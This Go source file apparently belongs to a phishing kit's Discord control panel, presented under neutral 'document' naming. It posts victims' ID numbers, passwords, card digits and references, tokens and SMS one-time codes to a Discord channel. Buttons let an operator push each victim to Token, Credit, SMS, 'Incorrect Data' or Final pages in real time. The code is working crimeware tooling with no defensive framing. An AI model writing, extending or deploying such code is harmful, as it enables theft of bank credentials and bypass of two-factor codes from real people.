package service

import (
	"fmt"
	"time"

	"github.com/bwmarrin/discordgo"

	"github.com/digimonapk/dicords/model"
)

const embedColorNew = 0x0099ff
const embedColorDeleted = 0xff0000

// PostNew renders and sends the initial interactive notification for a
// freshly created document. It returns a DispatchError when the
// destination channel is unset, unreachable, or not writable. The caller
// must not undo the store write on failure; notifications are best-effort.
func (d *DiscordService) PostNew(doc model.Document) (string, error) {
	if !d.ready.Load() {
		return "", &DispatchError{Op: "post", Err: fmt.Errorf("bot is not connected")}
	}
	if d.channelID == "" {
		return "", &DispatchError{Op: "post", Err: fmt.Errorf("no destination channel configured")}
	}

	ch, err := d.session.Channel(d.channelID)
	if err != nil {
		return "", &DispatchError{Op: "post", Err: fmt.Errorf("channel %s is not reachable: %w", d.channelID, err)}
	}
	if !sendableChannelType(ch.Type) {
		return "", &DispatchError{Op: "post", Err: fmt.Errorf("channel %s is not writable (type=%d)", d.channelID, ch.Type)}
	}

	msg, err := d.session.ChannelMessageSendComplex(d.channelID, &discordgo.MessageSend{
		Embeds:     []*discordgo.MessageEmbed{documentEmbed(doc)},
		Components: documentButtonRows(doc.DocID),
	})
	if err != nil {
		return "", &DispatchError{Op: "post", Err: err}
	}
	return msg.ID, nil
}

// documentEmbed builds the display payload for a document. Attributes
// that still carry their sentinel value are omitted, as the operator only
// cares about what the submitter actually provided.
func documentEmbed(doc model.Document) *discordgo.MessageEmbed {
	fields := []*discordgo.MessageEmbedField{
		{Name: "📋 Document ID", Value: fmt.Sprintf("`%s`", doc.DocID)},
		{Name: "🏙️ City", Value: doc.City, Inline: true},
		{Name: "👤 ID Type", Value: doc.IDType, Inline: true},
		{Name: "🔢 Identification", Value: fmt.Sprintf("`%s`", doc.IDNumber), Inline: true},
	}

	if doc.Category == "login" || doc.Secret != model.NotProvided {
		fields = append(fields, &discordgo.MessageEmbedField{
			Name: "🔑 Secret", Value: fmt.Sprintf("`%s`", doc.Secret), Inline: true,
		})
	}
	if doc.LastDigits != model.NotProvided {
		fields = append(fields, &discordgo.MessageEmbedField{
			Name: "🔢 Last Digits", Value: fmt.Sprintf("`%s`", doc.LastDigits), Inline: true,
		})
	}
	if doc.CreditRef != model.NotProvided {
		fields = append(fields, &discordgo.MessageEmbedField{
			Name: "💳 Credit", Value: fmt.Sprintf("`%s`", doc.CreditRef), Inline: true,
		})
	}
	if doc.Token != model.NotProvided {
		fields = append(fields, &discordgo.MessageEmbedField{
			Name: "🔐 Token", Value: fmt.Sprintf("`%s`", doc.Token), Inline: true,
		})
	}
	if doc.SMSCode != model.NotProvided {
		fields = append(fields, &discordgo.MessageEmbedField{
			Name: "📱 SMS", Value: fmt.Sprintf("`%s`", doc.SMSCode), Inline: true,
		})
	}

	fields = append(fields, &discordgo.MessageEmbedField{
		Name: "📝 Category", Value: doc.Category, Inline: true,
	})

	return &discordgo.MessageEmbed{
		Color:       embedColorNew,
		Title:       "🆕 New Document Received",
		Description: "Use the buttons to control this document",
		Fields:      fields,
		Timestamp:   time.Now().Format(time.RFC3339),
		Footer:      &discordgo.MessageEmbedFooter{Text: "Document Control Panel"},
	}
}

// documentButtonRows builds the page selection and delete buttons for a
// document. Custom IDs carry the command encoding.
func documentButtonRows(docID string) []discordgo.MessageComponent {
	pageButton := func(page model.Page, emoji string, style discordgo.ButtonStyle) discordgo.Button {
		return discordgo.Button{
			CustomID: EncodeCommand(model.SelectPage{Page: page, DocID: docID}),
			Label:    page.Label(),
			Emoji:    &discordgo.ComponentEmoji{Name: emoji},
			Style:    style,
		}
	}

	return []discordgo.MessageComponent{
		discordgo.ActionsRow{Components: []discordgo.MessageComponent{
			pageButton(model.PageHome, "🏠", discordgo.PrimaryButton),
			pageButton(model.PageToken, "🔑", discordgo.SecondaryButton),
			pageButton(model.PageCredit, "💳", discordgo.SecondaryButton),
		}},
		discordgo.ActionsRow{Components: []discordgo.MessageComponent{
			pageButton(model.PageSMS, "📱", discordgo.SecondaryButton),
			pageButton(model.PageIncorrectData, "❌", discordgo.SecondaryButton),
			pageButton(model.PageFinal, "✅", discordgo.SuccessButton),
		}},
		discordgo.ActionsRow{Components: []discordgo.MessageComponent{
			discordgo.Button{
				CustomID: EncodeCommand(model.DeleteDoc{DocID: docID}),
				Label:    "Delete",
				Emoji:    &discordgo.ComponentEmoji{Name: "🗑️"},
				Style:    discordgo.DangerButton,
			},
		}},
	}
}

// confirmationRow builds the yes/no buttons for a staged page change.
func confirmationRow(page model.Page, docID string) discordgo.ActionsRow {
	return discordgo.ActionsRow{Components: []discordgo.MessageComponent{
		discordgo.Button{
			CustomID: EncodeCommand(model.Confirm{Approve: true, Page: page, DocID: docID}),
			Label:    "✅ YES",
			Style:    discordgo.SuccessButton,
		},
		discordgo.Button{
			CustomID: EncodeCommand(model.Confirm{Approve: false, Page: page, DocID: docID}),
			Label:    "❌ NO",
			Style:    discordgo.DangerButton,
		},
	}}
}

// renderPrompt builds the confirmation question for a staged page change.
func renderPrompt(page model.Page, docID string) string {
	return fmt.Sprintf(
		"📄 **Switch to: %s** (Page %d)\n📋 Document: `%s`\n\n❓ Confirm this action?",
		page.Label(), page, docID,
	)
}

// RenderResult builds the terminal display payload for an effect. It is a
// pure function of the transition outcome.
func RenderResult(effect Effect, page model.Page, docID string) string {
	switch effect {
	case EffectApproved:
		return fmt.Sprintf(
			"✅ **CONFIRMED!**\n\n%s (Page %d) activated for:\n📋 `%s`",
			page.Label(), page, docID,
		)
	case EffectCancelled:
		return fmt.Sprintf(
			"❌ **Action cancelled**\n\nNo changes were made for:\n📋 `%s`",
			docID,
		)
	case EffectDeleted:
		return fmt.Sprintf(
			"🗑️ **Document deleted**\n\nThe document `%s` has been removed.",
			docID,
		)
	default:
		return ""
	}
}
